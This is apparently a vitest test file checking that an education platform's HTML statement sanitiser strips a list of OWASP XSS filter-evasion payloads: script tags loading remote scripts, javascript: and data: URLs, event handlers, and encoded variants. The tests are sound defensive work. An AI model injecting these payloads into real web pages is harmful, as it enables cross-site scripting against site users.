// The statement sanitiser against payloads of OWASP's XSS Filter Evasion Cheat Sheet: whatever comes in, what comes out
// holds only the allowed text tags, links only to http/https/mailto, and never a script, event handler or frame.
import { M } from '@edu/shared';
import { describe, expect, it } from 'vitest';
import { cleanStatement, sanitizeStatement, TEXT_TAGS } from './sanitize-statement.js';

const TAGS = new Set(TEXT_TAGS);

const PAYLOADS: string[] = [
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<script>alert(1)</script>',
  '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<a href="javascript:alert(1)">clic</a>',
  '<a href="JaVaScRiPt:alert(1)">clic</a>',
  '<a href="jav&#x09;ascript:alert(1)">clic</a>',
  '<a href="jav\nascript:alert(1)">clic</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">clic</a>',
  '<a href=" \u0001javascript:alert(1)">clic</a>',
  '<a href="vbscript:msgbox(1)">clic</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">clic</a>',
  '<a href="//evil.example/x" onclick="alert(1)" onmouseover=alert(2)>clic</a>',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="background-image: url(javascript:alert(1))">texto</p>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '¼script¾alert(¢XSS¢)¼/script¾',
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  '<p onclick="alert(1)"><strong onmouseover="alert(2)">Negrita</strong></p>',
  '<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<form action="javascript:alert(1)"><button>Enviar</button></form>',
];

/** Every tag of the output with its attributes; the sanitiser escapes < in text, so each < opens a tag. */
function tagsOf(html: string) {
  return [...html.matchAll(/<\/?([a-zA-Z0-9]+)([^>]*)>/g)].map(([, name, rest]) => ({
    name: name.toLowerCase(),
    attributes: Object.fromEntries(
      [...rest.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)].map(([, k, v]) => [k.toLowerCase(), v ?? '']),
    ),
  }));
}

describe('cleanStatement against OWASP filter-evasion payloads', () => {
  it('has a good forty payloads to try', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(PAYLOADS.map((p) => [p.slice(0, 70), p]))('%s', (_label, payload) => {
    for (const html of [payload, `<p>Enunciado ${payload} final</p>`]) {
      const out = cleanStatement(html);
      expect(out).not.toMatch(/<script/i);
      expect(out).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
      for (const tag of tagsOf(out)) {
        expect(TAGS.has(tag.name), `${tag.name} in ${out}`).toBe(true);
        expect(
          Object.keys(tag.attributes).every((a) => ['href', 'rel', 'target'].includes(a)),
          out,
        ).toBe(true);
        const href = tag.attributes.href;
        if (href !== undefined) expect(href, out).toMatch(/^(https?:|mailto:)/i);
        expect(JSON.stringify(tag.attributes), out).not.toMatch(/javascript:|vbscript:|data:/i);
      }
    }
  });
});

describe('cleanStatement keeps what the editor writes', () => {
  it('keeps text formatting, lists, headings, quotes and code as they are', () => {
    const html =
      '<h2>Tema</h2><p>Texto <strong>negrita</strong>, <b>b</b>, <em>cursiva</em>, <i>i</i>, <u>subrayado</u> y <s>tachado</s>.<br>Otra línea</p>' +
      '<ul><li>uno</li></ul><ol><li>dos</li></ol><h3>Sub</h3><h4>Subsub</h4><blockquote><p>Cita</p></blockquote>' +
      '<pre><code>const x = 1 &lt; 2;</code></pre><p><code>x</code></p>';
    // the only change: a void <br> is written self-closed
    expect(cleanStatement(html)).toBe(html.replace('<br>', '<br />'));
  });

  it('forces links to open in a new tab without a handle on this page, and keeps http, https and mailto only', () => {
    expect(cleanStatement('<p><a href="https://minedu.gob.pe" target="_self" rel="opener">MINEDU</a></p>')).toBe(
      '<p><a href="https://minedu.gob.pe" target="_blank" rel="noopener noreferrer">MINEDU</a></p>',
    );
    expect(cleanStatement('<p><a href="mailto:profe@colegio.pe">escribir</a></p>')).toContain(
      'href="mailto:profe@colegio.pe"',
    );
    expect(cleanStatement('<p><a href="ftp://x.pe/a">ftp</a></p>')).toBe(
      '<p><a rel="noopener noreferrer" target="_blank">ftp</a></p>',
    );
  });

  it('drops images, styles and classes but keeps the text around them', () => {
    expect(cleanStatement('<p class="x" style="color:red">Mira <img src="https://x.pe/a.png"> esto</p>')).toBe(
      '<p>Mira  esto</p>',
    );
    expect(cleanStatement('<h1>Título</h1><div>bloque</div>')).toBe('Títulobloque');
  });
});

describe('sanitizeStatement', () => {
  it.each([
    ['an empty paragraph', '<p></p>'],
    ['only spaces and line breaks', '<p> &nbsp; </p><p><br></p>'],
    ['only a script', '<script>alert(1)</script>'],
    ['only an image', '<img src=x onerror=alert(1)>'],
    ['only zero-width spaces', '<p>\u200b\u200b</p>'],
  ])('refuses %s with the Spanish message under the question field', (_label, html) => {
    expect(() => sanitizeStatement(html)).toThrowError(
      expect.objectContaining({
        code: 'VALIDATION',
        message: M.QUESTION_STATEMENT_REQUIRED,
        fields: { question: M.QUESTION_STATEMENT_REQUIRED },
      }),
    );
  });

  it('answers the clean statement when text is left', () => {
    expect(sanitizeStatement('<p>¿Cuál es la capital del Perú?<script>alert(1)</script></p>')).toBe(
      '<p>¿Cuál es la capital del Perú?</p>',
    );
  });
});
